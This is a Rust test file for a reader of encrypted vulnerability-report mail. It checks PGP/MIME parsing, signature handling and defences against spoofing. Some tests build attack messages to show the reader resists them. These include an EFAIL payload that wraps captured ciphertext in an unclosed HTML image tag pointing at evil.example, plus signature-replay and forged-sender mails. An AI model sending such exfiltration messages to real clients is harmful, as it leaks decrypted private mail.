//! The shapes in which people's programs send what is protected, and what attackers make of them.

use std::process::Command;

use openpgp::{Certificate, ENCRYPT_SEED_BYTES, INTAKE_SEED_BYTES, SigningKey, encrypt};
use zeroize::Zeroizing;

use super::{certificate, read_with};
use crate::reader::{Reading, Signature, Trouble, Understood, Warning};

/// 2026-06-01T00:00:00Z.
const MADE: i64 = 1_780_272_000;
const SENT: i64 = MADE + 86_400;
const RITA: &str = "rita@researcher.example";

fn key_of(user_id: &str, first: u8) -> SigningKey {
    let mut seeds = Zeroizing::new([0; INTAKE_SEED_BYTES]);
    seeds.iter_mut().zip(first..).for_each(|(byte, value)| *byte = value);
    SigningKey::generate_intake(user_id, MADE, None, &seeds).unwrap()
}

fn psirt() -> SigningKey {
    key_of("Example PSIRT <psirt@vendor.example>", 1)
}

fn rita() -> SigningKey {
    key_of("Rita Reporter <rita@researcher.example>", 101)
}

fn mallory() -> SigningKey {
    key_of("Mallory <mallory@evil.example>", 151)
}

/// Armoured, for our key, signed by `signer`.
fn sealed(content: &str, signer: Option<&SigningKey>) -> String {
    let content = content.replace('\n', "\r\n");
    let seed = Zeroizing::new([9; ENCRYPT_SEED_BYTES]);
    encrypt(&[psirt().certificate()], content.as_bytes(), signer, SENT, &seed).unwrap()
}

/// Reads a mail from Rita, knowing her key.
fn from_rita(rest: &str) -> Reading {
    from_rita_knowing(rest, &[rita().certificate().clone(), mallory().certificate().clone()])
}

fn from_rita_knowing(rest: &str, known: &[Certificate]) -> Reading {
    let message = format!(
        "From: Rita <{RITA}>\nTo: psirt@vendor.example\nDate: Mon, 02 Nov 2026 09:00:00 +0100\nMIME-Version: 1.0\n{rest}"
    );
    read_with(
        message.replace("\r\n", "\n").replace('\n', "\r\n").as_bytes(),
        &[psirt()],
        known,
    )
}

/// PGP/MIME (RFC 3156) around `content`.
fn pgp_mime(content: &str, signer: Option<&SigningKey>) -> String {
    let block = sealed(content, signer);
    format!(
        "Subject: ...\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\n\n\
         --e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n\
         --e\nContent-Type: application/octet-stream\n\n{block}\n--e--\n"
    )
}

fn check_signed(read: &Understood, signer: &SigningKey, matches: bool) {
    assert_eq!(read.signature, Signature::Good);
    assert_eq!(read.signer, Some(signer.fingerprint()));
    assert_eq!(read.signer_matches_from, Some(matches));
}

#[test]
fn pgp_mime_with_the_title_inside() {
    for parameter in ["protected-headers=\"v1\"", "hp=\"cipher\""] {
        let content = format!(
            "Content-Type: text/plain; charset=utf-8; {parameter}\nSubject: Bypass\nFrom: Rita <{RITA}>\n\nDetails.\n"
        );
        let read = from_rita(&pgp_mime(&content, Some(&rita()))).understood;
        assert_eq!(read.decrypts, Some(true));
        assert_eq!((read.subject.as_str(), read.subject_is_protected), ("Bypass", true));
        assert_eq!(read.text, "Details.");
        assert_eq!(read.unprotected_text, None);
        assert_eq!(read.warnings, []);
        check_signed(&read, &rita(), true);
    }
    let read = from_rita(&pgp_mime("Subject: not said to be protected\n\nDetails.\n", None)).understood;
    assert_eq!(read.subject, "...");
    let forged = "Content-Type: text/plain; protected-headers=v1\nFrom: other@else.example\n\nx\n";
    assert!(
        from_rita(&pgp_mime(forged, None))
            .understood
            .warnings
            .contains(&Warning::OtherFromInside)
    );
}

#[test]
fn repeated_headers_inside_are_not_part_of_the_text() {
    let first_part = "Content-Type: multipart/mixed; boundary=i; protected-headers=v1\nSubject: Inner\n\n\
        --i\nContent-Type: text/rfc822-headers; protected-headers=v1\n\nSubject: Inner\n\n\
        --i\nContent-Type: text/plain\n\nDetails.\n--i--\n";
    let read = from_rita(&pgp_mime(first_part, None)).understood;
    assert_eq!((read.subject.as_str(), read.text.as_str()), ("Inner", "Details."));
    let in_text =
        "Content-Type: text/plain; hp=cipher; hp-legacy-display=1\nSubject: Inner\n\nSubject: Inner\n\nDetails.\n";
    let read = from_rita(&pgp_mime(in_text, None)).understood;
    assert_eq!((read.subject.as_str(), read.text.as_str()), ("Inner", "Details."));
}

#[test]
fn a_signature_inside_the_encryption_is_checked_over_exact_bytes() {
    let content = "Content-Type: text/plain\r\n\r\nTrailing  \r\nFrom the fuzzer\r\n";
    let signature = rita().sign_detached(content.as_bytes(), SENT).unwrap();
    let signed = format!(
        "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\n\n\
         --s\n{content}\n--s\nContent-Type: application/pgp-signature\n\n{signature}\n--s--\n"
    );
    let read = from_rita(&pgp_mime(&signed.replace("\r\n", "\n"), None)).understood;
    check_signed(&read, &rita(), true);
    assert_eq!(read.text, "Trailing  \nFrom the fuzzer");
    // Signed only, stored with other line ends, and with a list's footer.
    let read = from_rita(&format!("Subject: x\n{signed}")).understood;
    check_signed(&read, &rita(), true);
    assert_eq!(read.decrypts, None);
    let message = format!("From: {RITA}\n{signed}").replace("\r\n", "\n");
    let read = read_with(message.as_bytes(), &[], &[rita().certificate().clone()]).understood;
    check_signed(&read, &rita(), true);
    let footer =
        format!("Content-Type: multipart/mixed; boundary=m\n\n--m\n{signed}\n--m\n\nUnsubscribe here.\n--m--\n");
    let read = from_rita(&footer).understood;
    check_signed(&read, &rita(), true);
    assert_eq!(read.unprotected_text.as_deref(), Some("Unsubscribe here."));
    assert!(read.warnings.contains(&Warning::Outside));
    let changed = signed.replace("fuzzer", "fuzzor");
    let read = from_rita(&changed).understood;
    assert_eq!(read.signature, Signature::Bad);
    assert!(read.warnings.contains(&Warning::BadSignature));
}

#[test]
fn what_stands_around_an_inline_block_stays_outside() {
    let block = sealed("Secret details.\n", Some(&rita()));
    let read = from_rita(&format!("\nHello,\n\n{block}\n-- \nRita\n")).understood;
    assert_eq!(read.text, "Secret details.");
    assert_eq!(read.unprotected_text.as_deref(), Some("Hello,\n-- \nRita"));
    assert!(read.warnings.contains(&Warning::Outside));
    check_signed(&read, &rita(), true);
    let html = format!("Content-Type: text/html\n\n<p>Hi</p><pre>{block}</pre>\n");
    let read = from_rita(&html).understood;
    assert_eq!(read.text, "Secret details.");
    let both = format!(
        "Content-Type: multipart/alternative; boundary=a\n\n--a\n\n{block}\n--a\nContent-Type: text/html\n\n<pre>{block}</pre>\n--a--\n"
    );
    let read = from_rita(&both).understood;
    assert_eq!(read.text, "Secret details.");
    assert_eq!(read.unprotected_text, None);
}

#[test]
fn text_signed_in_place_ends_with_its_signature() {
    let signed = rita().sign_cleartext("I found it.\n", SENT).unwrap();
    let read = from_rita(&format!("\n{signed}\nList footer\n")).understood;
    assert_eq!(read.text, "I found it.");
    assert_eq!(read.unprotected_text.as_deref(), Some("List footer"));
    check_signed(&read, &rita(), true);
    let read = from_rita(&format!("\n{}", signed.replace("found", "lost"))).understood;
    assert_eq!(read.signature, Signature::Bad);
}

#[test]
fn a_mail_server_may_lose_the_frame() {
    let block = sealed("Content-Type: text/plain\n\nSecret details.\n", Some(&rita()));
    let mangled = format!(
        "X-MS-Exchange-Organization-AuthAs: Anonymous\nContent-Type: multipart/mixed; boundary=m\n\n\
         --m\nContent-Type: text/plain\n\n\n--m\nContent-Type: application/pgp-encrypted; name=\"PGPMIME Versions Identification.dat\"\n\
         Content-Transfer-Encoding: base64\n\nVmVyc2lvbjogMQ0K\n--m\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\n{block}\n--m--\n"
    );
    let without_a_name = format!(
        "Content-Type: multipart/mixed; boundary=m\n\n--m\n\n\n--m\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\n{block}\n--m--\n"
    );
    for shape in [mangled, without_a_name] {
        let read = from_rita(&shape).understood;
        assert_eq!((read.decrypts, read.text.as_str()), (Some(true), "Secret details."));
        assert_eq!(read.unprotected_text, None);
        assert_eq!(read.attachments, []);
        check_signed(&read, &rita(), true);
    }
}

#[test]
fn encrypted_files_come_out_as_files_and_texts() {
    let attached = |name: &str, content: &str| {
        let block = sealed(content, None);
        from_rita(&format!(
            "Content-Type: multipart/mixed; boundary=m\n\n--m\n\nSee the file.\n--m\n\
             Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"{name}\"\n\n{block}\n--m--\n"
        ))
    };
    let reading = attached("exploit.py.pgp", "print(1)\n");
    let read = &reading.understood;
    assert_eq!(read.attachments[0].name, "exploit.py");
    assert!(read.attachments[0].protected);
    assert_eq!(reading.contents, [b"print(1)\r\n"]);
    assert_eq!(read.unprotected_text.as_deref(), Some("See the file."));
    let read = attached("report.asc", "The report.\n").understood;
    assert_eq!((read.text.as_str(), read.attachments.len()), ("The report.", 0));
}

/// EFAIL: an attacker puts a captured message between pieces of a page that would send it home.
#[test]
fn clear_parts_never_reach_around_an_encrypted_one() {
    let captured = pgp_mime("Content-Type: text/html\n\nSecret <b>details</b>.\n", None);
    let message = format!(
        "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\nLook: <img src=\"http://evil.example/\n\
         --m\n{captured}\n--m\nContent-Type: text/html\n\n\">\n--m--\n"
    );
    let read = from_rita(&message).understood;
    assert_eq!(read.decrypts, Some(true));
    assert_eq!(read.text, "Secret details.");
    assert_eq!(read.unprotected_text.as_deref(), Some("Look:\n\">"));
    assert!(!format!("{:?}{:?}", read.text, read.html).contains("evil.example"));
    assert!(read.warnings.contains(&Warning::Outside));
}

#[test]
fn a_signature_belongs_to_its_key_not_to_the_sender() {
    let read = from_rita(&pgp_mime("\nDetails.\n", Some(&mallory()))).understood;
    check_signed(&read, &mallory(), false);
    assert!(read.warnings.contains(&Warning::OtherSigner));
    let read = from_rita_knowing(&pgp_mime("\nDetails.\n", Some(&rita())), &[]).understood;
    assert_eq!((read.signature, read.signer), (Signature::Unknown, None));
}

/// Whoever holds a message to us that they cannot read may send it as theirs: it is surely theirs only where their signature lies inside.
#[test]
fn what_was_decrypted_is_proven_by_a_signature_inside_alone() {
    let part = |content: &str, signer: &SigningKey| {
        let signature = signer
            .sign_detached(content.replace('\n', "\r\n").as_bytes(), SENT)
            .unwrap();
        format!(
            "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\n\n\
             --s\n{content}\n--s\nContent-Type: application/pgp-signature\n\n{signature}\n--s--\n"
        )
    };
    let plain = "Content-Type: text/plain\n\nDetails.\n";
    let check = |rest: &str, expect: bool| {
        let read = from_rita(rest).understood;
        assert_eq!(read.proven, expect, "{rest}");
        assert!(expect || read.error.is_none(), "{rest}");
    };
    check(&pgp_mime(plain, Some(&rita())), true);
    check(&pgp_mime(&part(plain, &rita()), None), true);
    check(&pgp_mime(plain, None), false);
    check(&pgp_mime(plain, Some(&mallory())), false);
    // Around what somebody else encrypted, anybody can sign.
    let unsigned = pgp_mime(plain, None).replacen("Subject: ...\n", "", 1);
    check(&part(&unsigned, &rita()), false);
    check(&pgp_mime(&unsigned, Some(&rita())), false);
    check(&pgp_mime(&part(&unsigned, &rita()), None), false);
    let beside = format!(
        "Content-Type: multipart/mixed; boundary=m\n\n--m\n{}\n--m\nContent-Type: application/octet-stream; name=x.asc\n\n{}\n--m--\n",
        part(plain, &rita()),
        sealed("Details.\n", None)
    );
    check(&beside, false);
    check(
        &format!(
            "\n{}\n{}\n",
            sealed("Mine.\n", Some(&rita())),
            sealed("Details.\n", None)
        ),
        false,
    );
    // What was never encrypted was read by its sender.
    check(&format!("Subject: x\n{}", part(plain, &rita())), false);
}

/// A replayed part that Rita signed lends nothing to what stands beside it.
#[test]
fn a_signature_on_one_part_says_nothing_of_another() {
    let content = "Content-Type: text/plain\r\n\r\nYes, I agree.\r\n";
    let part = |content: &str, signer: &SigningKey, boundary: &str| {
        let signature = signer.sign_detached(content.as_bytes(), SENT).unwrap();
        format!(
            "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary={boundary}\n\n\
             --{boundary}\n{content}\n--{boundary}\nContent-Type: application/pgp-signature\n\n{signature}\n--{boundary}--\n"
        )
    };
    let both = |one: &str, other: &str| {
        from_rita(&format!(
            "Content-Type: multipart/mixed; boundary=m\n\n--m\n{one}\n--m\n{other}\n--m--\n"
        ))
        .understood
    };
    let hers = part(content, &rita(), "s");
    let evil = part(&content.replace("agree", "pay"), &mallory(), "t");
    let read = both(&hers, &evil);
    assert_eq!(
        (read.signature, read.signer.clone(), read.signer_matches_from),
        (Signature::Partly, None, None)
    );
    assert!(read.warnings.contains(&Warning::PartlySigned));
    let unsigned = format!("Content-Type: text/plain\n\n{}", sealed("Send it to me.\n", None));
    assert_eq!(both(&hers, &unsigned).signature, Signature::Partly);
    let file = "Content-Type: text/x-python; name=x.py\n\nevil\n";
    let read = both(&hers, &pgp_mime(file, None));
    assert_eq!(read.signature, Signature::Partly);
    let again = part(&content.replace("Yes", "Yes, yes"), &rita(), "t");
    check_signed(&both(&hers, &again), &rita(), true);
    let broken = again.replace("agree", "refuse");
    assert_eq!(both(&hers, &broken).signature, Signature::Bad);
}

#[test]
fn a_key_that_came_along_signs_for_itself_alone() {
    let content = format!(
        "Content-Type: multipart/mixed; boundary=i\n\n--i\n\nDetails.\n--i\nContent-Type: application/pgp-keys; name=key.asc\n\n{}\n--i--\n",
        rita().armored()
    );
    let read = from_rita_knowing(&pgp_mime(&content, Some(&rita())), &[]).understood;
    check_signed(&read, &rita(), true);
    assert_eq!(read.signer_is_known, Some(false));
    assert!(read.warnings.contains(&Warning::BroughtSigner));
    assert_eq!(read.attached_key, Some(rita().fingerprint()));
    assert_eq!(
        certificate(read.keys[0].public.as_bytes()).fingerprint(),
        rita().fingerprint()
    );
    let of_another = content.replace(&rita().armored(), &mallory().armored());
    let read = from_rita(&pgp_mime(&of_another, None)).understood;
    assert_eq!(read.attached_key, None);
    assert!(read.warnings.contains(&Warning::OtherKey));
}

#[test]
fn an_old_copy_of_a_key_does_not_speak_against_the_new_one() {
    let seeds = Zeroizing::new([5; INTAKE_SEED_BYTES].map({
        let mut place = 0_u8;
        move |seed| {
            place += 1;
            seed ^ place
        }
    }));
    let ended = SigningKey::generate_intake("Rita <rita@researcher.example>", MADE, Some(SENT - 60), &seeds).unwrap();
    let old = ended.certificate().clone();
    let whole = ended.extended(SENT + 86_400, SENT - 120).unwrap();
    let rita = ended.certified_by(whole).unwrap();
    let content = format!(
        "Content-Type: multipart/mixed; boundary=i\n\n--i\n\nDetails.\n--i\nContent-Type: application/pgp-keys; name=key.asc\n\n{}\n--i--\n",
        rita.armored()
    );
    let mail = pgp_mime(&content, Some(&rita));
    let read = from_rita_knowing(&mail, std::slice::from_ref(&old)).understood;
    check_signed(&read, &rita, true);
    assert_eq!(read.signer_is_known, Some(true));
    // Without the new copy it does not count, and says whose it would be to whoever knows no key.
    let alone = pgp_mime("Content-Type: text/plain\n\nDetails.\n", Some(&rita));
    assert_eq!(from_rita_knowing(&alone, &[old]).understood.signature, Signature::Bad);
    let unknown = from_rita_knowing(&alone, &[]).understood;
    assert_eq!(unknown.signature, Signature::Unknown);
    let signers = rita.certificate().signers(SENT);
    assert_eq!(unknown.unknown_signers, signers);
    assert_eq!(read.keys[0].signers.len(), 0, "it has ended by the time of the reading");
}

#[test]
fn autocrypt_is_for_the_one_sender_only() {
    let data: String = rita()
        .armored()
        .lines()
        .filter(|line| !line.starts_with(['-', '=']) && !line.is_empty())
        .collect();
    let key = |field: &str| {
        from_rita(&format!("Autocrypt: {field}keydata={data}\n\nx\n"))
            .understood
            .autocrypt_key
    };
    assert_eq!(
        key("addr=rita@researcher.example; prefer-encrypt=mutual; "),
        Some(rita().fingerprint())
    );
    assert_eq!(
        key("addr=Rita@Researcher.example; _hint=1; "),
        Some(rita().fingerprint())
    );
    assert_eq!(key("addr=other@researcher.example; "), None);
    assert_eq!(key("addr=rita@researcher.example; critical=1; "), None);
    let twice = format!("Autocrypt: addr={RITA}; keydata={data}\n").repeat(2);
    assert_eq!(from_rita(&format!("{twice}\nx\n")).understood.autocrypt_key, None);
}

fn check_not_opened(rest: &str, trouble: Trouble) {
    let read = from_rita(rest).understood;
    assert_eq!((read.decrypts, read.error), (Some(false), Some(trouble)));
    assert_eq!(read.text, "");
    assert!(read.opens_case);
}

#[test]
fn nothing_is_shown_of_what_does_not_open() {
    let whole = pgp_mime(&format!("\n{}", "Secret details.\n".repeat(50)), None);
    let lines: Vec<&str> = whole.lines().collect();
    let cut = lines[..lines.len() - 6].join("\n");
    check_not_opened(&cut, Trouble::Truncated);
    let at = lines
        .iter()
        .position(|line| line.len() > 60 && !line.contains(' '))
        .unwrap();
    let mut changed = lines.clone();
    let swapped: String = changed[at + 8].chars().rev().collect();
    changed[at + 8] = &swapped;
    check_not_opened(&changed.join("\n"), Trouble::Integrity);
    check_not_opened(
        "Content-Type: multipart/encrypted; boundary=e\n\n--e\n\nVersion: 1\n--e--\n",
        Trouble::Malformed,
    );
    check_not_opened(
        "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n\nMIIB\n",
        Trouble::Smime,
    );
    let seed = Zeroizing::new([9; ENCRYPT_SEED_BYTES]);
    let for_rita = encrypt(&[rita().certificate()], b"x", None, SENT, &seed).unwrap();
    check_not_opened(&format!("\n{for_rita}"), Trouble::NoSecretKey);
    assert_eq!(from_rita(&format!("\n{for_rita}")).understood.key_ids.len(), 1);
}

#[test]
fn encrypted_parts_inside_each_other_are_counted() {
    let mut content = "\nDetails.\n".to_owned();
    for layer in 1..=5 {
        content = pgp_mime(&content, None);
        let read = from_rita(&content).understood;
        if layer <= 4 {
            assert_eq!((read.decrypts, read.text.as_str()), (Some(true), "Details."), "{layer}");
        } else {
            assert_eq!(
                (read.decrypts, read.error),
                (Some(false), Some(Trouble::TooDeep)),
                "{layer}"
            );
        }
    }
}

#[test]
fn secret_keys_and_smime_signatures_are_told() {
    let secret = "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nabc\n-----END PGP PRIVATE KEY BLOCK-----\n";
    assert!(
        from_rita(&format!("\n{secret}"))
            .understood
            .warnings
            .contains(&Warning::SecretKey)
    );
    let signed = "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=s\n\n--s\n\nDetails.\n\
        --s\nContent-Type: application/pkcs7-signature; name=smime.p7s\n\nMIIB\n--s--\n";
    let read = from_rita(signed).understood;
    assert_eq!((read.text.as_str(), read.signature), ("Details.", Signature::None));
    assert!(read.warnings.contains(&Warning::SmimeSignature));
}

#[test]
fn a_forwarded_message_is_one_file() {
    let read = from_rita("Content-Type: multipart/mixed; boundary=m\n\n--m\n\nSee below.\n--m\nContent-Type: message/rfc822\n\nFrom: x@y.example\nContent-Type: multipart/mixed; boundary=z\n\n--z\n\ninside\n--z--\n--m--\n").understood;
    assert_eq!(read.text, "See below.");
    assert_eq!(read.attachments[0].name, "message.eml");
}

/// GnuPG with a key ring of its own: what real programs call.
struct Gpg(tempfile::TempDir);

impl Gpg {
    /// `None`, with a printed reason, where gpg is not installed. Rita's key is made, ours is imported.
    fn start() -> Option<Self> {
        if Command::new("gpg").arg("--version").output().is_err() {
            assert!(
                std::env::var_os("CI").is_none_or(|ci| ci != "true"),
                "gpg is missing, and CI must run every test"
            );
            println!("skipped: needs gpg");
            return None;
        }
        // The agent's socket lies in this folder, and the path of a socket has at most 107 bytes.
        let gpg = Self(tempfile::Builder::new().prefix("g").tempdir_in("/tmp").unwrap());
        std::fs::write(gpg.0.path().join("psirt.asc"), psirt().armored()).unwrap();
        gpg.run(&["--import", "psirt.asc"]);
        gpg.run(&[
            "--quick-generate-key",
            "Rita <rita@researcher.example>",
            "default",
            "default",
            "never",
        ]);
        Some(gpg)
    }

    fn run(&self, arguments: &[&str]) -> Vec<u8> {
        let output = Command::new("gpg")
            .args([
                "--batch",
                "--no-tty",
                "--pinentry-mode",
                "loopback",
                "--passphrase",
                "",
                "--trust-model",
                "always",
            ])
            .arg(format!("--faked-system-time={SENT}!"))
            .arg("--homedir")
            .arg(self.0.path())
            .current_dir(self.0.path())
            .args(arguments)
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        output.stdout
    }

    /// What gpg makes of `content`, as text.
    fn of(&self, content: &str, arguments: &[&str]) -> String {
        std::fs::write(self.0.path().join("content"), content.replace('\n', "\r\n")).unwrap();
        let mut all = vec!["--armor", "--output", "-"];
        all.extend(arguments);
        all.push("content");
        String::from_utf8(self.run(&all)).unwrap()
    }

    fn rita(&self) -> Certificate {
        certificate(&self.run(&["--armor", "--export", RITA]))
    }
}

impl Drop for Gpg {
    fn drop(&mut self) {
        let mut kill = Command::new("gpgconf");
        _ = kill
            .arg("--homedir")
            .arg(self.0.path())
            .args(["--kill", "all"])
            .output();
    }
}

#[test]
fn what_gpg_makes_in_the_shapes_of_mail_programs_is_understood() {
    let Some(gpg) = Gpg::start() else { return };
    let us = psirt().fingerprint();
    let known = [gpg.rita()];
    let frame = |block: &str| {
        format!(
            "Subject: ...\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\n\n\
             --e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--e\nContent-Type: application/octet-stream\n\n{block}\n--e--\n"
        )
    };
    let inner = "Content-Type: multipart/mixed; boundary=\"i\"; protected-headers=\"v1\"\nSubject: Bypass\nFrom: Rita <rita@researcher.example>\n\n\
        --i\nContent-Type: multipart/mixed; boundary=\"j\"\n\n--j\nContent-Type: text/plain; charset=UTF-8; format=flowed\n\nDetails.\n\
        --j\nContent-Type: text/x-python; name=\"poc.py\"\nContent-Disposition: attachment; filename=\"poc.py\"\nContent-Transfer-Encoding: base64\n\ncHJpbnQoMSk=\n--j--\n--i--\n";
    let sign = ["--sign", "--encrypt", "-r", &us];
    // Thunderbird; gpgol, which names nobody and asks for no compression; Proton, which compresses; an Outlook that loses the frame.
    let shapes = [
        frame(&gpg.of(inner, &sign)),
        frame(&gpg.of(inner, &["--sign", "--encrypt", "-R", &us, "--compress-algo", "none"])),
        frame(&gpg.of(
            inner,
            &["--sign", "--encrypt", "-r", &us, "-r", RITA, "--compress-algo", "bzip2"],
        )),
        frame(&gpg.of(inner, &sign)).replace(
            "multipart/encrypted; protocol=\"application/pgp-encrypted\"",
            "multipart/mixed",
        ),
    ];
    for (number, shape) in shapes.iter().enumerate() {
        let read = from_rita_knowing(shape, &known).understood;
        assert_eq!((read.decrypts, read.error), (Some(true), None), "{number}");
        assert_eq!(
            (read.subject.as_str(), read.text.as_str()),
            ("Bypass", "Details."),
            "{number}"
        );
        assert_eq!(read.attachments[0].name, "poc.py", "{number}");
        assert_eq!(
            (read.signature, read.signer_matches_from),
            (Signature::Good, Some(true)),
            "{number}"
        );
    }
    let inline = gpg.of("Details.\n", &sign);
    let read = from_rita_knowing(&format!("\nHello\n{inline}"), &known).understood;
    assert_eq!(
        (read.text.as_str(), read.unprotected_text.as_deref()),
        ("Details.", Some("Hello"))
    );
    let clear = gpg.of("Details.\n- dashes\n", &["--clearsign"]);
    let read = from_rita_knowing(&format!("\n{clear}"), &known).understood;
    assert_eq!(
        (read.text.as_str(), read.signature),
        ("Details.\n- dashes", Signature::Good)
    );
    let content = "Content-Type: text/plain\r\n\r\nDetails.\r\n";
    for textmode in [vec!["--detach-sign"], vec!["--detach-sign", "--textmode"]] {
        let signature = gpg.of(&content.replace("\r\n", "\n"), &textmode);
        let signed = format!(
            "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\n\n--s\n{content}\n--s\nContent-Type: application/pgp-signature\n\n{signature}\n--s--\n"
        );
        assert_eq!(
            from_rita_knowing(&signed, &known).understood.signature,
            Signature::Good,
            "{textmode:?}"
        );
    }
}
